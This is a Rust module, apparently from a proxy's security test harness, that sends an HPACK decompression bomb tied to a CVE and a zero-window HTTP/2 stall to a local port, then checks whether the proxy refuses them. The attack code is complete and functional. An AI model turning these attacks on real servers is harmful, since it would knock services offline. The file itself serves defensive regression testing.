//! Attacks that make the proxy hold much for little sent.

use std::time::{Duration, Instant};

use super::Ended;
use crate::wire::h2::{
    Connection, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW, RST_STREAM, Silence, request,
};
use crate::wire::hpack;

/// References to one big table entry in a block: 4,000 bytes each when decoded.
const REFERENCES: usize = 16_000;
/// Streams that a stalling connection opens.
const STALLED: u32 = 20;

/// CVE-2026-47774: a table entry of 4 KB referred to thousands of times, with a window of 0 for the answers.
pub(super) fn hpack_bomb(port: u16, until: Instant) -> Ended {
    let Ok(mut connection) = Connection::connect(port, &[(INITIAL_WINDOW, 0)]) else {
        return Ended::Unreachable;
    };
    let mut stream = 1;
    while Instant::now() < until {
        let mut block = request("GET", "/bomb", &[]);
        if stream == 1 {
            hpack::literal_indexed(&mut block, b"cookie", &[b'c'; 4000]);
        }
        // Index 62 is the newest entry of the dynamic table.
        block.resize(block.len() + REFERENCES - 4200, 0x80 | 62);
        if connection.send(HEADERS, END_HEADERS | END_STREAM, stream, &block).is_err() {
            return Ended::Refused;
        }
        match wait(&mut connection, stream, until) {
            // The stream alone was refused: the next bomb follows on the same connection, and counts as well.
            Waited::Stream if stream > 20 => return Ended::Refused,
            Waited::Stream => stream += 2,
            Waited::Connection => return Ended::Refused,
            Waited::Nothing => return Ended::Time,
        }
    }
    Ended::Time
}

/// Large responses asked for, and no window granted for them.
pub(super) fn zero_window(port: u16, until: Instant) -> Ended {
    let Ok(mut connection) = Connection::connect(port, &[(INITIAL_WINDOW, 0)]) else {
        return Ended::Unreachable;
    };
    let block = request("GET", "/big", &[]);
    for index in 0..STALLED {
        if connection.send(HEADERS, END_HEADERS | END_STREAM, index * 2 + 1, &block).is_err() {
            return Ended::Refused;
        }
    }
    match wait(&mut connection, 1, until) {
        Waited::Nothing => Ended::Time,
        Waited::Stream | Waited::Connection => Ended::Refused,
    }
}

enum Waited {
    /// The stream was reset or answered with an error.
    Stream,
    /// The connection ended.
    Connection,
    /// Neither until the end.
    Nothing,
}

fn wait(connection: &mut Connection, stream: u32, until: Instant) -> Waited {
    loop {
        let left = until.saturating_duration_since(Instant::now()).min(Duration::from_secs(10));
        match connection.next(left) {
            Ok(frame) if frame.kind == GOAWAY => return Waited::Connection,
            Ok(frame) if frame.kind == RST_STREAM && frame.stream == stream => return Waited::Stream,
            Ok(frame) if frame.kind == HEADERS && frame.stream == stream => {
                if hpack::status(&frame.payload).is_some_and(|status| status >= 400) {
                    return Waited::Stream;
                }
            }
            Ok(_) => {}
            Err(Silence::Closed) => return Waited::Connection,
            Err(Silence::Quiet) => return Waited::Nothing,
        }
    }
}
